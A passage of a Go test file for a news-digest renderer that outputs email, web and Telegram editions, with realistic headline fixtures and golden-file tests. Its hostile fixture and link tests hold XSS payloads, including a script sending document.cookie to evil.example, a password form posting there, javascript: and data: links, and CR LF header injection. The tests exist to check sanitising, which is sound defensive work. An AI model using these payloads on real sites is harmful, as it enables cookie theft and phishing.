package digest

import (
	"flag"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"golang.org/x/net/html"

	"github.com/digestbot/digestbot/articles"
	"github.com/digestbot/digestbot/telegram/tghtml"
)

// go test ./digest/ -run Golden -update rewrites testdata/golden.
var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

const tgMessageBreak = "--- message break ---"

// renderTestOptions are the settings every rendering test uses. The two
// per-subscriber links are placeholders, as the sender passes them.
func renderTestOptions() RenderOptions {
	return RenderOptions{
		Title:          "Daily Headlines",
		BaseURL:        "https://news.example/",
		PostalAddress:  "Harborview Media, 1 Harbor Way, Bayside, CA 94000, USA",
		Location:       time.FixedZone("EDT", -4*3600),
		Sections:       []string{"military", "world", "us", "business", "tech"},
		UnsubscribeURL: "https://news.example/unsubscribe/DIGESTBOT_UNSUBSCRIBE_TOKEN",
		PreferencesURL: "https://news.example/preferences/DIGESTBOT_PREFERENCES_TOKEN",
	}
}

// renderFixtureEdition is a hand-made edition of 25 items from the fixture
// feeds (testdata/feeds/README.md): the five multi-outlet stories with their
// "Also in" outlets, then single stories, grouped by section.
func renderFixtureEdition() Edition {
	return Edition{
		ID:         7,
		Newsletter: DefaultNewsletter,
		Date:       "2023-09-13",
		Title:      "Daily Headlines",
		CutoffFrom: time.Date(2023, 9, 12, 10, 0, 0, 0, time.UTC),
		CutoffTo:   time.Date(2023, 9, 13, 10, 0, 0, 0, time.UTC),
		Status:     StatusBuilt,
		Items: []Item{
			{ArticleID: 101, Section: "military", Title: "House GOP leaders shelve Pentagon funding vote amid conservative revolt", URL: "https://stripes.example/theaters/us/2023-09-13/house-defense-appropriations-vote-delayed-11284015.html", Source: "Pacific Stripes Daily", AlsoIn: nil, Lead: "A procedural vote to open debate on the fiscal 2024 defense appropriations bill was scrapped Wednesday after several hard-right Republicans said they would oppose it until they win deeper cuts elsewhere. The setback comes with less than three weeks left before the Sept. 30 funding deadline."},
			{ArticleID: 102, Section: "military", Title: "Ukrainian strike sets Sevastopol shipyard ablaze, damaging 2 Russian vessels", URL: "https://stripes.example/theaters/europe/2023-09-13/sevastopol-shipyard-strike-black-sea-fleet-11283402.html", Source: "Pacific Stripes Daily", AlsoIn: nil, Lead: "Russia’s Defense Ministry said 10 cruise missiles and three sea drones targeted the Black Sea Fleet’s repair yard in occupied Crimea overnight, and that two ships under repair were hit."},
			{ArticleID: 103, Section: "military", Title: "North Korea launches 2 ballistic missiles while Kim is away in Russia", URL: "https://stripes.example/theaters/asia_pacific/2023-09-13/north-korea-ballistic-missiles-kim-russia-11283311.html", Source: "Pacific Stripes Daily", AlsoIn: nil, Lead: "South Korea’s Joint Chiefs of Staff said the short-range missiles were fired from the Pyongyang area toward waters off the east coast late Wednesday morning. It was the first known launch by the North while its leader was outside the country."},
			{ArticleID: 104, Section: "military", Title: "Senate returns with hundreds of military promotions still frozen by Tuberville hold", URL: "https://stripes.example/theaters/us/2023-09-12/tuberville-hold-military-promotions-11282871.html", Source: "Pacific Stripes Daily", AlsoIn: nil, Lead: "Sen. Tommy Tuberville’s blanket hold, aimed at the Pentagon’s abortion travel policy, has left more than 300 senior officer nominations waiting, including the top uniformed posts of the Army, Navy and Marine Corps. Acting leaders are filling those jobs while the standoff drags on."},
			{ArticleID: 105, Section: "world", Title: "Kim promises Putin full backing as leaders meet at Russian spaceport", URL: "https://stripes.example/theaters/asia_pacific/2023-09-13/kim-jong-un-putin-vostochny-cosmodrome-11283746.html", Source: "Pacific Stripes Daily", AlsoIn: []string{"Wire-A News Service", "The Globe News", "Meridian Business & Tech", "Harborview Herald"}, Lead: "North Korea’s Kim Jong Un told Vladimir Putin that ties with Moscow come first for Pyongyang and backed Russia’s war in Ukraine, as the two met at the Vostochny Cosmodrome in Russia’s Far East. Putin hinted at help with satellites and said there were “prospects” for cooperation despite U.N. sanctions."},
			{ArticleID: 106, Section: "world", Title: "Derna counts its dead as aid trickles into Libya’s flood-wrecked east", URL: "https://wire-a.example/world/2023/09/13/libya-derna-flood-aid-b204", Source: "Wire-A News Service", AlsoIn: []string{"Pacific Stripes Daily", "The Globe News", "Harborview Herald"}, Lead: "Rescue crews from Egypt, Turkey and the United Arab Emirates began arriving in eastern Libya as bodies were recovered from the streets and from the sea off Derna. Roads into the city were cut, and Libya’s split between rival governments in Tripoli and the east slowed the response."},
			{ArticleID: 107, Section: "world", Title: "Thousands of migrants land on Lampedusa in a day, swamping reception centre", URL: "https://globe-news.example/world/2023/sep/13/lampedusa-migrant-boats-record-arrivals", Source: "The Globe News", AlsoIn: nil, Lead: "More than 100 boats reached the small Italian island within about 24 hours, bringing more new arrivals than its roughly 6,000 residents. Local officials said the island’s reception centre, built for a few hundred people, was overwhelmed."},
			{ArticleID: 108, Section: "world", Title: "Morocco quake toll nears 2,900 as troops reach cut-off mountain villages", URL: "https://stripes.example/theaters/africa/2023-09-12/morocco-earthquake-atlas-villages-11282530.html", Source: "Pacific Stripes Daily", AlsoIn: nil, Lead: "Soldiers and rescue teams pushed deeper into the High Atlas on Tuesday as the Interior Ministry raised the death toll from Friday’s magnitude-6.8 earthquake to nearly 2,900. Morocco has so far accepted search teams from only four countries: Spain, Britain, Qatar and the United Arab Emirates."},
			{ArticleID: 109, Section: "world", Title: "Mexican lawmakers shown purported ‘non-human’ bodies at UFO hearing", URL: "https://wire-a.example/world/2023/09/13/mexico-congress-ufo-hearing-f018", Source: "Wire-A News Service", AlsoIn: nil, Lead: "A longtime UFO promoter displayed two small mummified figures he claimed were ancient non-human beings found in Peru, a presentation scientists quickly dismissed. Similar claims by the same presenter have been debunked before."},
			{ArticleID: 110, Section: "world", Title: "India’s Kerala races to contain deadly Nipah virus outbreak", URL: "https://globe-news.example/world/2023/sep/13/kerala-nipah-virus-kozhikode-containment", Source: "The Globe News", AlsoIn: nil, Lead: "Health officials in Kozhikode district declared containment zones across several village councils after two deaths were linked to the bat-borne virus and more infections were confirmed. There is no approved vaccine or cure for Nipah."},
			{ArticleID: 111, Section: "world", Title: "Brazil’s Supreme Court opens first trials over Jan. 8 riots in Brasília", URL: "https://wire-a.example/world/2023/09/13/brazil-supreme-court-jan-8-trials-0b7d", Source: "Wire-A News Service", AlsoIn: nil, Lead: "Justices began hearing cases against people charged with storming government buildings in the capital in January, when supporters of former President Jair Bolsonaro refused to accept his election defeat. Prosecutors accuse the first defendants of crimes including an attempted coup and damage to public property."},
			{ArticleID: 112, Section: "us", Title: "McCarthy orders impeachment inquiry into Biden without House vote", URL: "https://wire-a.example/us/2023/09/12/mccarthy-biden-impeachment-inquiry-d310", Source: "Wire-A News Service", AlsoIn: []string{"Harborview Herald"}, Lead: "House Speaker Kevin McCarthy said three committees would investigate whether President Joe Biden benefited from his family’s business dealings; Republicans have yet to show evidence that he did. The White House called the move politics at its worst."},
			{ArticleID: 113, Section: "us", Title: "Romney says he won’t run again, calls for a new generation of leaders", URL: "https://wire-a.example/us/2023/09/13/romney-not-seeking-reelection-2c66", Source: "Wire-A News Service", AlsoIn: nil, Lead: "Sen. Mitt Romney of Utah, 76, said he will not seek a second Senate term in 2024, arguing it is time for younger leaders to take over. He added that both President Joe Biden and Donald Trump should make way for the next generation."},
			{ArticleID: 114, Section: "us", Title: "Escaped Pennsylvania killer caught in woods after two-week manhunt", URL: "https://wire-a.example/us/2023/09/13/cavalcante-captured-pennsylvania-e552", Source: "Wire-A News Service", AlsoIn: nil, Lead: "Danelo Cavalcante, who broke out of the Chester County Prison on Aug. 31, was captured Wednesday morning after a search plane picked up his heat signature overnight. A Border Patrol police dog subdued him; a rifle he had stolen was within reach, police said."},
			{ArticleID: 115, Section: "us", Title: "Hurricane Lee expected to turn north, with New England and Atlantic Canada in view", URL: "https://harborview.example/2023/09/13/hurricane-lee-forecast-new-england/", Source: "Harborview Herald", AlsoIn: nil, Lead: "Forecasters said the large storm would bring dangerous surf and rip currents to much of the East Coast this week before nearing New England or Atlantic Canada over the weekend. Its exact track remained uncertain…"},
			{ArticleID: 116, Section: "us", Title: "A month after Lahaina burned, families still wait to see what’s left", URL: "https://harborview.example/2023/09/12/lahaina-maui-fire-month-later/", Source: "Harborview Herald", AlsoIn: nil, Lead: "Most of the Lahaina burn zone remains closed while federal crews remove hazardous debris, and Maui County officials say residents will be allowed back in phases. Thousands of evacuees are still living in hotel rooms across the island."},
			{ArticleID: 117, Section: "business", Title: "UAW will target select plants if no deal by Thursday midnight, Fain says", URL: "https://meridian-bt.example/autos/uaw-targeted-strikes-fain-deadline", Source: "Meridian Business & Tech", AlsoIn: []string{"Harborview Herald"}, Lead: "The union plans to start with strikes at a limited set of plants and widen them if talks stall."},
			{ArticleID: 118, Section: "business", Title: "Arm prices IPO at top of range, valuing chip designer near $55 billion", URL: "https://meridian-bt.example/markets/arm-ipo-priced-51-dollars", Source: "Meridian Business & Tech", AlsoIn: nil, Lead: "SoftBank-owned Arm Holdings sold shares at $51 each, raising about $4.87 billion in the year’s largest U.S. listing."},
			{ArticleID: 119, Section: "business", Title: "Gasoline drives biggest monthly US price rise in more than a year", URL: "https://meridian-bt.example/economy/august-cpi-gasoline-fed-outlook", Source: "Meridian Business & Tech", AlsoIn: nil, Lead: "Consumer prices rose 0.6% in August and 3.7% from a year earlier."},
			{ArticleID: 120, Section: "business", Title: "Von der Leyen launches EU probe into Chinese electric-car subsidies", URL: "https://globe-news.example/business/2023/sep/13/eu-china-electric-vehicles-subsidy-investigation", Source: "The Globe News", AlsoIn: nil, Lead: ""},
			{ArticleID: 121, Section: "business", Title: "UK economy shrank 0.5% in July as strikes and rain hit output", URL: "https://globe-news.example/business/2023/sep/13/uk-gdp-july-contraction-strikes-weather", Source: "The Globe News", AlsoIn: nil, Lead: "Official figures showed a sharper contraction than economists had expected, with strikes in health and education and an unusually wet summer weighing on activity. The data arrive a week before the Bank of England’s next interest-rate decision."},
			{ArticleID: 122, Section: "tech", Title: "Apple unveils iPhone 15 line with USB-C charging, titanium Pro models", URL: "https://wire-a.example/tech/2023/09/12/apple-iphone-15-usb-c-titanium-c9e1", Source: "Wire-A News Service", AlsoIn: []string{"The Globe News", "Meridian Business & Tech"}, Lead: "Apple replaced its Lightning port with USB-C across the new iPhones, bowing to a European Union rule, and gave the Pro models a lighter titanium frame & a new A17 Pro chip. The iPhone 15 starts at $799; the 15 Pro Max, with a 5x zoom camera, starts at $1,199."},
			{ArticleID: 123, Section: "tech", Title: "Musk, Zuckerberg and Altman join senators for closed-door AI summit", URL: "https://meridian-bt.example/tech/senate-ai-insight-forum-musk-zuckerberg-altman", Source: "Meridian Business & Tech", AlsoIn: nil, Lead: "Senate Majority Leader Chuck Schumer convened tech chiefs, labor leaders and civil-society groups to discuss how Congress should regulate artificial intelligence. Participants said there was broad agreement that government has a role, but little on the specifics."},
			{ArticleID: 124, Section: "tech", Title: "France halts iPhone 12 sales over radiation reading; Apple disputes test", URL: "https://globe-news.example/technology/2023/sep/13/france-iphone-12-radiation-anfr-apple", Source: "The Globe News", AlsoIn: nil, Lead: "France’s frequency regulator ANFR said the 2020 model exceeded the EU limit for energy absorbed by the body when held in the hand or kept in a pocket, and ordered sales stopped until Apple fixes it. Apple says the phone is certified compliant worldwide."},
			{ArticleID: 125, Section: "tech", Title: "Unity’s new per-install fee sparks revolt among game developers", URL: "https://meridian-bt.example/tech/unity-runtime-fee-developers-backlash", Source: "Meridian Business & Tech", AlsoIn: nil, Lead: "Studios say the fee could upend the economics of free-to-play and indie games."},
		},
	}
}

// renderHostileEdition carries every hostile string of section 6 of
// testdata/feeds/README.md as it could reach the renderer: markup as literal
// text, script and data links, a 3,000-character title, bidi overrides,
// blank titles and header injection.
func renderHostileEdition() Edition {
	long := strings.Repeat("the harbor dredging update continues with more details and more words; ", 42)
	long = "Extremely long headline test (3,000 characters): " + long
	long = long[:3000-len(" [END]")] + " [END]"
	const outlet = `Hostile & "Fixture" Outlet <i>test</i>`
	return Edition{
		Newsletter: DefaultNewsletter,
		Date:       "2023-09-13",
		Title:      "Daily <Headlines> & \"Friends\"\r\nBcc: everyone@hostile.example",
		Items: []Item{
			{ArticleID: 1, Section: "us", Title: `<script>alert(1)</script> Council votes 5–4 on "pier" plan & budget`, URL: "https://hostile.example/news/council-vote?utm_source=rss&utm_medium=feed", Source: outlet, AlsoIn: []string{`<b>Other</b> & Co`}, Lead: `Budget & "pier" plan <script>document.location='https://evil.example/?c='+document.cookie</script>approved.`},
			{ArticleID: 2, Section: "us", Title: "Click here for the full story", URL: "javascript:alert(document.cookie)", Source: outlet, Lead: `<a href="javascript:alert(1)">Read more</a> or <a href="JaVaScRiPt:alert(2)">here</a>.`},
			{ArticleID: 3, Section: "us", Title: "Gallery: harbor lights festival", URL: "https://hostile.example/gallery/harbor-lights", Source: outlet, Lead: `Photos from the weekend <img src="x" onerror="alert('xss')"> <iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style><a href="https://hostile.example/gallery" onclick="steal()">Gallery</a> <object data="https://evil.example/x.swf"></object>`},
			{ArticleID: 4, Section: "us", Title: long, URL: "https://hostile.example/news/very-long-headline", Source: outlet, Lead: "The title of this item is exactly 3,000 characters of ASCII text."},
			{ArticleID: 5, Section: "world", Title: "عاجل: افتتاح جسر الميناء الجديد 🌉 — גשר הנמל החדש נפתח 🎉 👨‍👩‍👧‍👦 🇲🇦 report\u202Efdp.exe", URL: "https://hostile.example/ar/news/bridge-opening", Source: outlet, Lead: "نص عربي مع emoji 😀👍🏽 وعلامات اتجاه \u200F\u200E و עברית בתוך המשפט, plus a right-to-left override \u202Egnp.kcilc\u202C and zero-width joiners Z\u200DW\u200DJ."},
			{ArticleID: 6, Section: "business", Title: `<b>Breaking</b>: AT&amp;T & T-Mobile <i>unclosed <a href="x">tag`, URL: "https://hostile.example/news/telecom-merger", Source: outlet, Lead: `Price < $5 > cost & "quotes" 'single' </code></pre> <tg-spoiler> &lt;literal&gt;`},
			{ArticleID: 7, Section: "us", Title: "", URL: "https://hostile.example/news/untitled", Source: outlet, Lead: "An item whose title element is empty."},
			{ArticleID: 8, Section: "us", Title: "Item with no link element", Source: outlet, Lead: "There is no <link> here and the guid is not a permalink."},
			{ArticleID: 12, Section: "us", Title: "Open the attachment", URL: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", Source: outlet, Lead: "The link is a data: URL that decodes to a script tag."},
			{ArticleID: 13, Section: "us", Title: "Weekly digest\r\nBcc: everyone@hostile.example\r\nX-Injected: yes", URL: "https://hostile.example/news/header-injection", Source: outlet, Lead: "The title carries CR LF sequences that would inject mail headers if copied into a Subject line."},
			{ArticleID: 14, Section: "us", Title: "   \u00a0\t  ", URL: "https://hostile.example/news/blank-title", Source: outlet, Lead: "The title is only spaces, a no-break space and a tab."},
			{ArticleID: 15, Section: "us", Title: "Protocol-relative redirect", URL: "//evil.example/redirect?to=javascript:alert(1)", Source: outlet, Lead: `<a href="//evil.example/x">scheme-relative</a> <form action="https://evil.example/steal"><input name="password"></form>`},
			{ArticleID: 16, Section: "us", Title: "Leading-space script link", URL: " javascript:alert(5)", Source: outlet},
			{ArticleID: 17, Section: "us", Title: "", Lead: "   "}, // nothing to show: dropped
		},
	}
}

func renderEmptyEdition() Edition {
	return Edition{Newsletter: DefaultNewsletter, Date: "2023-09-14", Title: "Daily Headlines"}
}

// renderAll renders every format the way the golden files hold them.
func renderAll(t testing.TB, e Edition, o RenderOptions) map[string]string {
	t.Helper()
	out := map[string]string{"subject.txt": Subject(e, o) + "\n"}
	var err error
	if out["email.html"], err = RenderEmailHTML(e, o); err != nil {
		t.Fatal(err)
	}
	if out["email.txt"], err = RenderEmailText(e, o); err != nil {
		t.Fatal(err)
	}
	if out["web.html"], err = RenderWebPage(e, o); err != nil {
		t.Fatal(err)
	}
	msgs, err := RenderTelegram(e, o)
	if err != nil {
		t.Fatal(err)
	}
	out["telegram.txt"] = strings.Join(msgs, "\n"+tgMessageBreak+"\n") + "\n"
	return out
}

func TestRenderGolden(t *testing.T) {
	editions := []struct {
		name string
		e    Edition
	}{
		{"fixture", renderFixtureEdition()},
		{"hostile", renderHostileEdition()},
		{"empty", renderEmptyEdition()},
		{"feeds", feedsEdition(t, fixtureOutlets)},
	}
	for _, ed := range editions {
		for format, got := range renderAll(t, ed.e, renderTestOptions()) {
			path := filepath.Join("testdata", "golden", ed.name+"."+format)
			if *updateGolden {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				continue
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./digest/ -run Golden -update)", err)
			}
			if got != string(want) {
				t.Errorf("%s differs from the golden file (run with -update and review the diff):\n%s", path, firstDiff(got, string(want)))
			}
		}
	}
}

func firstDiff(got, want string) string {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := 0; i < len(g) || i < len(w); i++ {
		var gl, wl string
		if i < len(g) {
			gl = g[i]
		}
		if i < len(w) {
			wl = w[i]
		}
		if gl != wl {
			return "line " + itoa(i+1) + ":\n got: " + gl + "\nwant: " + wl
		}
	}
	return ""
}

func itoa(i int) string {
	if i == 0 {
		return "0"
	}
	var b []byte
	for ; i > 0; i /= 10 {
		b = append([]byte{byte('0' + i%10)}, b...)
	}
	return string(b)
}

// checkTelegram asserts what every rendering must satisfy: each message is
// valid Telegram HTML (strictly), within the UTF-16 and raw limits, and the
// items appear once each, in display order, with their titles intact or
// visibly shortened.
func checkTelegram(t testing.TB, e Edition, o RenderOptions) []tgMessage {
	t.Helper()
	msgs := renderTelegram(e, o)
	if len(msgs) == 0 {
		t.Fatal("no message")
	}
	var order []int
	want := map[int]string{}
	for _, s := range groupSections(e.Items) {
		for _, it := range s.Items {
			order = append(order, it.Index)
			want[it.Index] = it.Title
		}
	}
	var got []int
	for i, m := range msgs {
		if err := tghtml.Check(m.HTML); err != nil {
			t.Fatalf("message %d: %v\n%s", i, err, m.HTML)
		}
		if n := tghtml.Len16(m.HTML); n > tghtml.MaxMessageLen {
			t.Fatalf("message %d: %d UTF-16 units", i, n)
		}
		if len(m.HTML) > tgMaxRawBytes {
			t.Fatalf("message %d: %d raw bytes", i, len(m.HTML))
		}
		text, _ := tghtml.Text(m.HTML)
		for k, idx := range m.Items {
			shown := m.Titles[k]
			if !strings.Contains(text, shown) {
				t.Fatalf("message %d: title %q missing from its text", i, shown)
			}
			if full := want[idx]; shown != full && !(strings.HasSuffix(shown, "…") && strings.HasPrefix(full, strings.TrimSuffix(shown, "…"))) {
				t.Fatalf("message %d: item %d shown as %q, want %q or a shortened form", i, idx, shown, full)
			}
		}
		got = append(got, m.Items...)
	}
	if len(got) != len(order) {
		t.Fatalf("items across messages = %v, want %v", got, order)
	}
	for i := range got {
		if got[i] != order[i] {
			t.Fatalf("items across messages = %v, want %v", got, order)
		}
	}
	return msgs
}

func TestRenderTelegramFixture(t *testing.T) {
	msgs := checkTelegram(t, renderFixtureEdition(), renderTestOptions())
	if !strings.HasPrefix(msgs[0].HTML, "<b>Daily Headlines</b>\nWednesday, September 13, 2023\n") {
		t.Errorf("first message starts %q", msgs[0].HTML[:80])
	}
	for _, m := range msgs[1:] {
		if strings.Contains(m.HTML, "<b>Daily Headlines</b>") {
			t.Error("header repeated on a later message")
		}
	}
	checkTelegram(t, renderHostileEdition(), renderTestOptions())
	checkTelegram(t, renderEmptyEdition(), renderTestOptions())
}

// TestRenderTelegramSplit fills several messages: long leads, astral
// characters (two UTF-16 units each) and markup that grows when escaped.
func TestRenderTelegramSplit(t *testing.T) {
	e := renderFixtureEdition()
	var items []Item
	for i := 0; i < 4; i++ {
		for _, it := range e.Items {
			it.Lead = strings.Repeat(it.Lead+" 😀 <&> ", 3)
			items = append(items, it)
		}
	}
	e.Items = items
	msgs := checkTelegram(t, e, renderTestOptions())
	if len(msgs) < 5 {
		t.Fatalf("%d messages, want several", len(msgs))
	}
	for i, m := range msgs[1:] {
		if !strings.HasPrefix(m.HTML, "<b>") {
			t.Errorf("message %d does not start with its section heading: %q", i+1, m.HTML[:40])
		}
	}
}

// TestRenderTelegramOversizeItem: an item that could not fit a message even
// alone is shortened, not dropped and not sent too long.
func TestRenderTelegramOversizeItem(t *testing.T) {
	e := Edition{Date: "2023-09-13", Title: strings.Repeat("𝕋", 500), Items: []Item{{
		Section: strings.Repeat("§", 500),
		Title:   strings.Repeat(`"<&>" 😀 `, 400),
		URL:     "https://x.example/?" + strings.Repeat("a=1&", 500),
		Source:  strings.Repeat("&", 500),
		AlsoIn:  []string{strings.Repeat("😀", 300), strings.Repeat(`"`, 300)},
		Lead:    strings.Repeat(`😀"&<>`, 3000),
	}, {Section: "next", Title: "Second item"}}}
	msgs := checkTelegram(t, e, renderTestOptions())
	if !strings.Contains(msgs[0].HTML, "…") {
		t.Error("no visible truncation")
	}
}

func TestRenderEscapesEverywhere(t *testing.T) {
	const title = `<script>alert(1)</script> & "quotes"`
	e := renderFixtureEdition()
	e.Items[0].Title = title
	e.Items[0].Source = `A & B <Media>`
	o := renderTestOptions()

	for _, f := range []struct {
		name   string
		render func(Edition, RenderOptions) (string, error)
	}{{"email html", RenderEmailHTML}, {"web page", RenderWebPage}} {
		out, err := f.render(e, o)
		if err != nil {
			t.Fatal(err)
		}
		doc := parseHTML(t, out)
		if !strings.Contains(nodeText(doc), title) || !strings.Contains(nodeText(doc), "A & B <Media>") {
			t.Errorf("%s: the title does not read as %q", f.name, title)
		}
		if strings.Contains(strings.ToLower(out), "<script") {
			t.Errorf("%s: a <script tag in the output", f.name)
		}
	}
	txt, err := RenderEmailText(e, o)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(txt, "* "+title+"\n") {
		t.Errorf("email text: the title does not read as %q", title)
	}
	msgs, _ := RenderTelegram(e, o)
	text, err := tghtml.Text(msgs[0])
	if err != nil || !strings.Contains(text, title) {
		t.Errorf("telegram: the title does not read as %q (%v)", title, err)
	}
	if !strings.Contains(msgs[0], "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quotes&quot;") {
		t.Error("telegram: title not escaped")
	}
}

func TestRenderHostile(t *testing.T) {
	e, o := renderHostileEdition(), renderTestOptions()
	out := renderAll(t, e, o)

	subject := Subject(e, o)
	if strings.ContainsAny(subject, "\r\n\t") || utf8.RuneCountInString(subject) > 200 {
		t.Errorf("Subject = %q", subject)
	}
	for name, s := range out {
		if name == "subject.txt" {
			continue
		}
		if strings.ContainsRune(s, '\u202E') || strings.ContainsRune(s, '\u202C') {
			t.Errorf("%s: a bidi override survived", name)
		}
		if strings.Contains(s, "Bcc: everyone@hostile.example\n") || strings.Contains(s, "\r") {
			t.Errorf("%s: the CR LF of a title survived", name)
		}
		if !strings.Contains(s, "report") || !strings.Contains(s, "fdp.exe") {
			t.Errorf("%s: the bidi title lost its text", name)
		}
	}
	for _, name := range []string{"email.html", "web.html"} {
		doc := parseHTML(t, out[name])
		walk(doc, func(n *html.Node) {
			if n.Type != html.ElementNode {
				return
			}
			switch n.Data {
			case "script", "iframe", "object", "form", "img", "input":
				t.Errorf("%s: <%s> element in the output", name, n.Data)
			}
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") {
					t.Errorf("%s: event handler %s", name, a.Key)
				}
				if a.Key == "href" && !strings.HasPrefix(a.Val, "https://") {
					t.Errorf("%s: link %q", name, a.Val)
				}
			}
		})
	}
	for _, m := range strings.Split(out["telegram.txt"], "\n"+tgMessageBreak+"\n") {
		if err := tghtml.Check(m); err != nil {
			t.Errorf("telegram: %v", err)
		}
		if strings.Contains(strings.ToLower(m), "href=\"javascript") || strings.Contains(m, "href=\"data:") || strings.Contains(m, "href=\"//") {
			t.Error("telegram: unsafe link")
		}
	}
	// The 3,000-character title is cut for display, visibly.
	for _, name := range []string{"telegram.txt", "email.html", "web.html"} {
		if strings.Contains(out[name], "[END]") || !strings.Contains(out[name], "the harbor dredging update continues…") {
			t.Errorf("%s: the long title is not truncated with …", name)
		}
	}
	// Blank titles fall back to the lead; nothing blank is listed.
	if !strings.Contains(out["email.txt"], "* An item whose title element is empty.") {
		t.Error("email text: no fallback title for an empty title")
	}
	if strings.Contains(out["email.txt"], "* \n") || strings.Contains(out["telegram.txt"], "• <b></b>") {
		t.Error("an empty bullet")
	}
}

func TestRenderPlaceholdersSurvive(t *testing.T) {
	e, o := renderFixtureEdition(), renderTestOptions()
	for name, s := range renderAll(t, e, o) {
		if name == "web.html" || name == "telegram.txt" || name == "subject.txt" {
			if strings.Contains(s, "TOKEN") {
				t.Errorf("%s: a per-subscriber link in a shared rendering", name)
			}
			continue
		}
		for _, u := range []string{o.UnsubscribeURL, o.PreferencesURL, "https://news.example/archive/2023-09-13"} {
			if !strings.Contains(s, u) {
				t.Errorf("%s: %s does not appear verbatim", name, u)
			}
		}
	}
}

func TestRenderEmpty(t *testing.T) {
	for name, s := range renderAll(t, renderEmptyEdition(), renderTestOptions()) {
		if name != "subject.txt" && !strings.Contains(s, "No new headlines today.") {
			t.Errorf("%s: no empty-edition message", name)
		}
	}
}

func TestRenderSubject(t *testing.T) {
	test := func(title, want string) {
		t.Helper()
		e := Edition{Date: "2023-09-13", Title: title}
		if got := Subject(e, RenderOptions{Title: "Fallback"}); got != want {
			t.Errorf("Subject(%q) = %q, want %q", title, got, want)
		}
	}
	test("Daily Headlines", "Daily Headlines — Wednesday, September 13, 2023")
	test("", "Fallback — Wednesday, September 13, 2023")
	test("Weekly digest\r\nBcc: everyone@hostile.example", "Weekly digest Bcc: everyone@hostile.example — Wednesday, September 13, 2023")
	long := Subject(Edition{Date: "2023-09-13", Title: strings.Repeat("word ", 100)}, RenderOptions{})
	if n := utf8.RuneCountInString(long); n > 200 || !strings.HasSuffix(long, "…") {
		t.Errorf("long subject: %d runes, %q", n, long)
	}
}

func TestDisplayText(t *testing.T) {
	test := func(in string, limit int, want string) {
		t.Helper()
		if got := displayText(in, limit); got != want {
			t.Errorf("displayText(%q, %d) = %q, want %q", in, limit, got, want)
		}
	}
	test("  a \t b\r\nc  ", 100, "a b c")
	test("report\u202Efdp.exe", 100, "reportfdp.exe")
	test("\u2067iso\u2069 \u200Fmark", 100, "iso \u200Fmark")
	test("bad \xff byte", 100, "bad \uFFFD byte")
	test("one two three four five", 10, "one two…")
	test("abcdefghijklmnop", 10, "abcdefghi…")
	test("a\u00a0\u00a0b", 10, "a b")
}

func TestSafeLink(t *testing.T) {
	for in, want := range map[string]string{
		"https://x.example/a?b=1&c=2": "https://x.example/a?b=1&c=2",
		"HTTP://X.example":            "HTTP://X.example",
		"javascript:alert(1)":         "",
		" javascript:alert(5)":        "",
		"JaVaScRiPt:alert(2)":         "",
		"data:text/html;base64,xx":    "",
		"//evil.example/x":            "",
		"/relative":                   "",
		"https://user@evil.example/":  "",
		"https://x.example/a b":       "",
		"ftp://x.example/":            "",
	} {
		if got := safeLink(in); got != want {
			t.Errorf("safeLink(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWrapText(t *testing.T) {
	got := wrapText("aaa bbb ccc https://very.long.example/url/that/does/not/fit ddd", "* ", "  ", 12)
	want := "* aaa bbb\n  ccc\n  https://very.long.example/url/that/does/not/fit\n  ddd"
	if got != want {
		t.Errorf("wrapText =\n%s\nwant\n%s", got, want)
	}
}

func parseHTML(t testing.TB, s string) *html.Node {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(s))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

func walk(n *html.Node, fn func(*html.Node)) {
	fn(n)
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		walk(c, fn)
	}
}

// nodeText is the text of the body as a reader sees it (no head, no style).
func nodeText(n *html.Node) string {
	var b strings.Builder
	walk(n, func(n *html.Node) {
		if n.Type == html.TextNode && n.Parent != nil && n.Parent.Data != "style" && n.Parent.Data != "title" {
			b.WriteString(n.Data)
		}
	})
	return b.String()
}

// BenchmarkRenderAll renders one 25-item edition in every format (target:
// under 5 ms in all).
//
//	go test ./digest/ -run '^$' -bench RenderAll -benchmem
func BenchmarkRenderAll(b *testing.B) {
	e, o := renderFixtureEdition(), renderTestOptions()
	b.ReportAllocs()
	for b.Loop() {
		_ = Subject(e, o)
		if _, err := RenderEmailHTML(e, o); err != nil {
			b.Fatal(err)
		}
		if _, err := RenderEmailText(e, o); err != nil {
			b.Fatal(err)
		}
		if _, err := RenderTelegram(e, o); err != nil {
			b.Fatal(err)
		}
		if _, err := RenderWebPage(e, o); err != nil {
			b.Fatal(err)
		}
	}
}

func TestForSections(t *testing.T) {
	e := renderFixtureEdition()
	all := e.ForSections(nil)
	if len(all.Items) != len(e.Items) {
		t.Fatalf("ForSections(nil) kept %d of %d items", len(all.Items), len(e.Items))
	}
	all.Items[0].Title = "changed"
	if e.Items[0].Title == "changed" {
		t.Error("ForSections(nil) shares its items with the edition")
	}
	got := e.ForSections([]string{"tech", "us"})
	var want []int64
	for _, it := range e.Items {
		if it.Section == "tech" || it.Section == "us" {
			want = append(want, it.ArticleID)
		}
	}
	if len(got.Items) != len(want) || len(want) == 0 {
		t.Fatalf("ForSections(tech, us): %d items, want %d", len(got.Items), len(want))
	}
	for i, it := range got.Items {
		if it.ArticleID != want[i] {
			t.Errorf("item %d = %d, want %d", i, it.ArticleID, want[i])
		}
	}
	if n := len(e.ForSections([]string{"sports"}).Items); n != 0 {
		t.Errorf("ForSections(sports): %d items", n)
	}
}

// BenchmarkRender is BenchmarkRenderAll per format.
func BenchmarkRender(b *testing.B) {
	e, o := renderFixtureEdition(), renderTestOptions()
	for _, f := range []struct {
		name   string
		render func(Edition, RenderOptions) (string, error)
	}{
		{"EmailHTML", RenderEmailHTML},
